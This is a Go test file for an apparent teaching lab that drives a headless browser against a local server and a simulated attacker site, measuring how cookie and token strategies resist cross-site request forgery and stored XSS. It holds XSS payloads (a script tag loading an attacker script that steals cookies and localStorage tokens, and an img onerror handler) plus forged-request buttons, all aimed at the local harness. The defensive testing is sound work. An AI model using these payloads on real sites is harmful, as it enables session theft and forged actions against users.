package browser

import (
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"statelab/api"
	"statelab/api/attacker"
	"statelab/state"
	"statelab/tests/harness"
)

// The attacker's pages and the guestbook can be used by everybody.
func TestTheAttackerIsAccessible(t *testing.T) {
	script, chromium := axe(t), browser(t)
	s, thief := harness.NewAttackedServer(t)
	s.Login(t, "session", harness.Bob, harness.BobPassword).Patch(harness.Object{"nickname": "Bob"}).Is(http.StatusOK)
	_, _ = thief.Asks(t, "GET", thief.As("localhost")+"/c?"+harness.Long("x", 200), "")
	for _, language := range both {
		v := chromium.visit(t, s, language)
		for _, address := range []string{thief.As("localhost") + "/", thief.As("127.0.0.1") + "/csrf", thief.As("localhost") + "/try", thief.As("localhost") + "/inbox", v.origin + "/session/guestbook"} {
			v.goes(address)
			require.Equal(t, language, js[string](v, `document.documentElement.lang`))
			v.does(script)
			for _, a := range appearances {
				v.isAccessible(a)
			}
		}
		v.goes(thief.As("localhost") + "/csrf")
		v.loads(chromedp.Evaluate[chromedp.Void](`document.querySelector('[data-language]').click()`))
		require.NotEqual(t, language, js[string](v, `document.documentElement.lang`), "a link leads to the other language")
		v.loads(chromedp.Evaluate[chromedp.Void](`document.querySelector('[data-other]').click()`))
		require.Equal(t, thief.As("127.0.0.1"), js[string](v, `location.origin`))
	}
}

// signsInWith logs alice in with strategies, by a script of the victim's own. A
// token that nobody keeps is nowhere.
func (v *visitor) signsInWith(slugs ...string) {
	v.t.Helper()
	// A light page, which asks for nothing itself: a guestbook that nothing was written in.
	empty := harness.Strategies[0]
	if slices.Equal(slugs, []string{empty}) {
		empty = harness.Strategies[1]
	}
	v.goes(v.origin + "/" + empty + "/guestbook")
	statuses := js[[]int](v, fmt.Sprintf(`Promise.all(%s.map((slug) => fetch('/' + slug + '/login', {
		method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"username":%q,"password":%q}'}).then(({status}) => status)))`,
		harness.MustJSON(slugs), harness.Alice, harness.AlicePassword))
	require.Equal(v.t, slices.Repeat([]int{http.StatusOK}, len(slugs)), statuses)
}

// holds returns a client with the cookies that the browser would send to a
// strategy.
func (v *visitor) holds(slug string) *harness.Client {
	v.t.Helper()
	c := v.s.Client(v.t, slug)
	for _, cookie := range call(v, network.GetCookies, network.GetCookiesParams{URLs: []string{v.origin + "/" + slug + "/profile"}}).Cookies {
		c.Cookies[cookie.Name] = cookie.Value
		v.s.Canary.Remember(cookie.Value, harness.Tail)
	}
	return c
}

// A way is how a page of another origin can send a request without leave, by the
// attribute of the attacker's buttons.
type way struct {
	name, by      string // by: as the table in api/README.md has it
	method, route string
	arrives       int // the status where the login goes along
}

var (
	link       = way{"link", "a link", "GET", "profile", http.StatusOK}
	form       = way{"form", "a form", "POST", "spend", http.StatusUnsupportedMediaType}
	textForm   = way{"text", "a form", "POST", "spend", http.StatusUnsupportedMediaType}
	emptyForm  = way{"empty", "a form", "POST", "logout", http.StatusNoContent}
	signInForm = way{"signin", "a form", "POST", "", http.StatusSeeOther}
	textFetch  = way{"fetch-text", "a script", "POST", "spend", http.StatusUnsupportedMediaType}
	jsonFetch  = way{"fetch-json", "a script", "POST", "spend", 0}
	emptyFetch = way{"fetch-empty", "a script", "POST", "logout", http.StatusNoContent}
)

// carries says what a browser does: whether it adds a login to a request that a
// page of another origin sends in one of these ways.
func carries(traits state.Traits, w way, sameSite string, sameSiteAsVictim bool) bool {
	if !traits.SameSite {
		sameSite = ""
	}
	switch {
	case !traits.SentByBrowser:
		return false
	case sameSiteAsVictim, sameSite == "None":
		return true
	case sameSite == "Strict":
		return false
	case w == link:
		return true
	}
	return sameSite == "" && w.by == "a form" // Chromium: as Lax, but for the first two minutes of a cookie
}

// A victim has a login in every strategy, and comes to the attacker.
type victim struct {
	*visitor
	log     *witness
	schemes bool                       // the victim's pages are encrypted, and the attacker's are not
	bearers map[string]*harness.Client // what pages, and no browser, would keep
	// Where a logout that finds no login clears the cookie all the same: SameSite
	// keeps the login out of a request, and not the answer out of the browser.
	clears map[string]bool
	thief  harness.Site
}

// newVictim starts a server with this SameSite, its attacker, and a visitor.
// Cookies with SameSite=None have to be Secure, so that one is encrypted.
func newVictim(t *testing.T, chromium program, sameSite string) *victim {
	t.Helper()
	log, h := &witness{}, httptest.NewUnstartedServer(nil)
	s := harness.NewServerBeside(t, h.Listener.Addr(), func(c *api.Config) { c.Logger = slog.New(slog.NewTextHandler(log, nil)) })
	v := &victim{log: log, schemes: sameSite == "None", bearers: map[string]*harness.Client{}, clears: map[string]bool{}}
	for _, slug := range harness.Strategies {
		v.clears[slug] = len(s.Client(t, slug).Post("logout", nil).Cookies) > 0
		if harness.Promises()[slug].Transport == state.TransportBearer {
			v.bearers[slug] = s.Login(t, slug, harness.Alice, harness.AlicePassword)
		}
	}
	s.Set(t, harness.Object{"same_site": sameSite})
	if v.schemes {
		s = s.OverTLS(t)
	}
	v.thief = s.AttackedAt(t, h)
	v.visitor = chromium.visit(t, s, "en")
	return v
}

// user is whose login the browser has with a strategy, "" for nobody's. None of
// them has spent anything.
func (v *victim) user(slug string) string {
	v.t.Helper()
	c := v.holds(slug)
	if held := v.bearers[slug]; held != nil {
		c = held
	}
	a := c.Get("profile")
	if a.Status == http.StatusOK {
		require.Equal(v.t, int64(100), a.Number("state.credits"), slug)
	}
	return a.Text("user.username")
}

// near says whether the attacker is of the victim's site by this name: a scheme
// makes another site, and a port does not.
func (v *victim) near(host string) bool { return host == "localhost" && !v.schemes }

// comes signs in, and comes to the attacker by one of the two names.
func (v *victim) comes(host string) {
	v.t.Helper()
	v.signsInWith(harness.Strategies...)
	v.goes(v.thief.As(host) + "/csrf")
}

// presses presses a button that is there for one strategy, and returns the status
// that the server has answered with. Each has a tab of its own: in one that is still
// busy with the last answer, the next request can get lost.
func (v *victim) presses(w way, slug string) int {
	v.t.Helper()
	v.log.Reset()
	v.does(fmt.Sprintf(`{
		const at = document.querySelector('[data-way=%q][data-slug=%q]'), name = crypto.randomUUID();
		const before = globalThis.tab;
		globalThis.tab = open('', name, 'popup,width=100,height=100');
		(at.form ?? at).target = name;
		at.click();
		before?.close();
	}`, w.name, slug))
	return v.answered(w, slug)
}

// answered is the status of the answer to a request.
func (v *victim) answered(w way, slug string) int {
	v.t.Helper()
	line := v.log.saw(v.t, w.method, "/"+slug+"/"+w.route)
	status, err := strconv.Atoi(regexp.MustCompile(`status=(\d+)`).FindStringSubmatch(line)[1])
	require.NoError(v.t, err)
	return status
}

// runs has the attacker's script send to all strategies, and hear nothing.
func (v *victim) runs(w way) {
	v.t.Helper()
	v.log.Reset()
	v.does(fmt.Sprintf(`{ const at = document.querySelector('[data-way=%q]'); at.ariaBusy = 'true'; at.click(); }`, w.name))
	v.until(`!document.querySelector('[aria-busy=true]')`)
	for _, seen := range v.texts("output") {
		require.Regexp(v.t, `^(TypeError: Failed to fetch|opaque)$`, seen, "the answer is not for this page")
	}
}

// TestForgedRequests has a browser with a login in every strategy visit the
// attacker from both of its origins, and press the buttons there, with nothing but
// SameSite in the way. What comes of it is what the traits say, and the
// table. It takes some six seconds: 166 requests, each from a tab of its own.
func TestForgedRequests(t *testing.T) {
	chromium := browser(t)
	var mu sync.Mutex
	found := map[string]map[bool]bool{} // whether the login went along, by cell of the table
	cell := func(host string, w way, column string) string { return host + ", " + w.by + ", " + column }
	t.Run("unchecked", func(t *testing.T) {
		for sameSite, navigations := range map[string][]way{"Lax": {link, form, textForm}, "Strict": {link}, "None": {link}} {
			t.Run(sameSite, func(t *testing.T) {
				t.Parallel()
				v := newVictim(t, chromium, sameSite)
				v.s.Set(t, harness.Object{"origin_check": false})
				for _, host := range []string{"127.0.0.1", "localhost"} {
					expect := func(slug string, w way, status int) (carried bool) {
						t.Helper()
						p, want := harness.Promises()[slug], http.StatusUnauthorized
						if carried = carries(p.Traits, w, sameSite, v.near(host)); carried {
							want = w.arrives
						}
						require.Equal(t, want, status, "%s from %s: %v", slug, host, w)
						column := "none given"
						switch {
						case !p.SentByBrowser:
							column = "token"
						case p.SameSite:
							column = sameSite
						case v.schemes:
							return carried // the table has these without encryption
						}
						mu.Lock()
						defer mu.Unlock()
						c := cell(host, w, column)
						if found[c] == nil {
							found[c] = map[bool]bool{}
						}
						found[c][status == w.arrives] = true
						return carried
					}
					v.comes(host)
					for _, w := range navigations {
						for _, slug := range harness.Strategies {
							expect(slug, w, v.presses(w, slug))
						}
					}
					v.runs(textFetch)
					for _, slug := range harness.Strategies {
						expect(slug, textFetch, v.answered(textFetch, slug))
					}
					v.runs(jsonFetch)
					require.NotContains(t, v.log.String(), "method=POST", "what needs leave is not sent without")
					for _, slug := range harness.Strategies {
						require.Equal(t, harness.Alice, v.user(slug), "%s from %s: nothing has been done", slug, host)
					}

					v.runs(emptyFetch)
					for _, slug := range harness.Strategies {
						want := harness.Alice
						if expect(slug, emptyFetch, v.answered(emptyFetch, slug)) {
							want = "" // a logout takes no body
						}
						require.Equal(t, want, v.user(slug), "%s from %s, by a script", slug, host)
					}
					v.comes(host)
					for _, slug := range harness.Strategies {
						want := harness.Alice
						if expect(slug, emptyForm, v.presses(emptyForm, slug)) || v.clears[slug] {
							want = ""
						}
						require.Eventually(t, func() bool { return v.user(slug) == want }, patience, patience/1000, "%s from %s, by a form", slug, host)
					}

					// A form that signs in needs no login to ride on.
					v.comes(host)
					for _, slug := range harness.Strategies {
						if harness.Promises()[slug].Page {
							require.Equal(t, http.StatusSeeOther, v.presses(signInForm, slug))
							require.Eventually(t, func() bool { return v.user(slug) == harness.Bob }, patience, patience/1000, "the victim is the attacker now")
						}
					}
				}
				v.console() // what the browser has said of all this
			})
		}
	})
	const marker = "<!-- forged requests: made by TestForgedRequests -->\n"
	table := "| from | by | `SameSite=Lax` | `Strict` | `None`, over HTTPS | none given | `token` |\n|---|---|---|---|---|---|---|\n"
	for _, from := range [][2]string{{"127.0.0.1", "another site"}, {"localhost", "the same site"}} {
		for _, w := range []way{link, emptyForm, textFetch} {
			table += "| `" + from[0] + ":9090`, " + from[1] + " | " + w.by
			for _, column := range []string{"Lax", "Strict", "None", "none given", "token"} {
				outcomes := found[cell(from[0], w, column)]
				require.Len(t, outcomes, 1, "%s: all strategies alike", cell(from[0], w, column))
				table += map[bool]string{true: " | yes", false: " | no"}[outcomes[true]]
			}
			table += " |\n"
		}
	}
	harness.HoldTables(t, "api/README.md", marker, table)
}

// TestForgedRequestsAreBlocked is the same with the check of origins, as a server
// starts: from either origin, in any way, to a browser that adds every cookie to
// everything.
func TestForgedRequestsAreBlocked(t *testing.T) {
	v := newVictim(t, browser(t), "None")
	for _, host := range []string{"127.0.0.1", "localhost"} {
		v.comes(host)
		for _, w := range []way{form, textForm, emptyForm, signInForm} {
			for _, slug := range harness.Strategies {
				if w != signInForm || harness.Promises()[slug].Page {
					require.Equal(t, http.StatusForbidden, v.presses(w, slug), "%s from %s: %v", slug, host, w)
				}
			}
		}
		for _, w := range []way{textFetch, emptyFetch} {
			v.runs(w)
			for _, slug := range harness.Strategies {
				require.Equal(t, http.StatusForbidden, v.answered(w, slug), "%s from %s: %v", slug, host, w)
			}
		}
		v.runs(jsonFetch)
		require.NotContains(t, v.log.String(), "method=POST", "what needs leave is not sent without")
		for _, slug := range harness.Strategies {
			require.Equal(t, harness.Alice, v.user(slug), slug)
		}
	}
	v.console() // what the browser has said of all this
}

// TestTheftAndRide has bob write a script into a guestbook, and alice look at it.
func TestTheftAndRide(t *testing.T) {
	chromium := browser(t)
	for _, stored := range []bool{false, true} {
		for _, slug := range harness.Strategies {
			p := harness.Promises()[slug]
			if stored && p.Transport != state.TransportBearer {
				continue // the browser keeps it, not the page
			}
			t.Run(fmt.Sprint(slug, ", in localStorage: ", stored), func(t *testing.T) {
				t.Parallel()
				s, thief := harness.NewAttackedServer(t)
				s.Login(t, slug, harness.Bob, harness.BobPassword).Patch(harness.Object{"nickname": "<script src=" + strings.TrimPrefix(thief.As("127.0.0.1"), "http:") + "/x.js></script>"}).Is(http.StatusOK)

				v := chromium.visit(t, s, "en")
				if p.Transport == state.TransportBearer {
					v.opens("/" + slug + "/")
					if stored {
						v.clicks(testid("keep-local"))
					}
					v.acts("login")
				} else {
					v.signsInWith(slug)
				}
				victim := v.holds(slug)
				if stored {
					victim.Access = js[string](v, fmt.Sprintf(`JSON.parse(localStorage.getItem('statelab.%s')).access_token`, slug))
					s.Canary.Remember(victim.Access, harness.Tail)
				}
				require.Equal(t, p.SentByBrowser || stored, victim.Held() != "")

				v.goes(v.origin + "/" + slug + "/guestbook")
				require.Equal(t, p.SentByBrowser, len(v.texts("[data-field=user]")) == 1, "the page greets whom the browser brings along")
				var entries []attacker.Entry
				require.Eventually(t, func() bool {
					entries = s.Inbox(t)
					return len(entries) > 0 && entries[0].Kind == "ride"
				}, patience, patience/1000)

				rides := p.SentByBrowser || stored
				status, credits := http.StatusUnauthorized, int64(100)
				if rides {
					status, credits = http.StatusOK, 70
				}
				require.Equal(t, fmt.Sprintf("POST /%s/spend: %d", slug, status), entries[0].Value)
				if p.SentByBrowser {
					require.Equal(t, credits, v.holds(slug).Get("profile").Is(http.StatusOK).Number("state.credits"), "the ride has spent")
				}

				readable := p.SentByBrowser && !p.HTTPOnly || stored
				loot := ""
				for _, e := range entries {
					require.Equal(t, slug, e.Strategy)
					require.Equal(t, s.Clock.Now(), e.At.UTC())
					if strings.Contains(e.Value, victim.Held()) && victim.Held() != "" {
						loot = e.Value
					}
				}
				require.Equal(t, readable, loot != "", "%v", entries)
				if !readable {
					for name, cookie := range victim.Cookies {
						require.NotContains(t, fmt.Sprint(entries), cookie, name)
					}
					return
				}
				// The thief has nothing but the text.
				copied := s.Client(t, slug)
				if stored {
					var all map[string]string
					require.NoError(t, json.Unmarshal([]byte(loot), &all))
					var tokens struct {
						Access string `json:"access_token"`
					}
					require.NoError(t, json.Unmarshal([]byte(all["statelab."+slug]), &tokens))
					copied.Hold(tokens.Access)
				} else {
					for pair := range strings.SplitSeq(loot, "; ") {
						name, value, _ := strings.Cut(pair, "=")
						if name == copied.CookieName() {
							copied.Hold(value)
						}
					}
				}
				require.True(t, copied.Opens(harness.Alice), "a copy is as good as the original")
			})
		}
	}
}

// An event handler needs no attacker, and nothing that is loaded from anywhere.
func TestAnInlineScriptRunsInTheGuestbookAlone(t *testing.T) {
	chromium := browser(t)
	s := harness.NewServer(t)
	v := chromium.visit(t, s, "en")
	const hostile = `<img src=x onerror="document.title='mine'">`
	harness.Each(t, func(t *testing.T, slug string) {
		s.Login(t, slug, harness.Bob, harness.BobPassword).Patch(harness.Object{"nickname": hostile}).Is(http.StatusOK)
		v.goes(v.origin + "/" + slug + "/guestbook")
		v.until(`document.title === 'mine'`)
		v.console() // there is no image x
		v.goes(v.origin + "/" + slug + "/")
		require.NotEqual(t, "mine", js[string](v, `document.title`))
		require.Zero(t, js[int](v, `document.querySelectorAll('img').length`))
	})
}
